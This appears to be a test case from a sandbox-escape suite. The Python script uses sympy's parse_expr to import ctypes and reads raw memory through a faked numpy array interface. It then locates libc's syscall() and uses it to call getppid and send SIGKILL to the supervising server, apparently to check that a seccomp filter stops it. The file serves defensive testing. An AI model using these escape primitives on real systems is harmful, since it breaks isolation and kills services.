# technique: native system calls from the production science worker (ctypes from sympy's eval, libc's syscall() found through numpy's __array_interface__) aimed at the supervisor: getppid, then kill(SERVER_PID, SIGKILL), the server's pid as the driver knows it; the worker has no other way to the supervisor than its socket, and only the seccomp filter answers
# expect: any
import numpy as np
import struct
import sympy

c = sympy.parse_expr('__import__("ctypes")')

class Mem:
    pass

def mem(addr, n):
    m = Mem()
    m.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": "|u1", "version": 3}
    return np.asarray(m).tobytes()

def q(addr):
    return struct.unpack("<Q", mem(addr, 8))[0]

def libc_symbol(want):
    base = c._memmove_addr & ~0xfff
    while mem(base, 4) != b"\x7fELF":
        base -= 0x1000
    phoff, phnum = q(base + 32), struct.unpack("<H", mem(base + 56, 2))[0]
    dyn = [base + q(base + phoff + 56 * i + 16) for i in range(phnum)
           if struct.unpack("<I", mem(base + phoff + 56 * i, 4))[0] == 2][0]   # PT_DYNAMIC
    tags = {}
    while q(dyn):
        tags[q(dyn)] = q(dyn + 8)
        dyn += 16
    symtab, strtab = (v if v > base else base + v for v in (tags[6], tags[5]))
    s = symtab
    while s < strtab:
        if q(s + 8) and mem(strtab + struct.unpack("<I", mem(s, 4))[0], len(want) + 1) == want + b"\0":
            return base + q(s + 8)
        s += 24
    raise LookupError(want)

L = c.c_long
syscall = c.CFUNCTYPE(L, L, L, L, L, L, L, L)(libc_symbol(b"syscall"))
print("getppid", syscall(110, 0, 0, 0, 0, 0, 0))
syscall(62, SERVER_PID, 9, 0, 0, 0, 0)
"the server was not signalled"
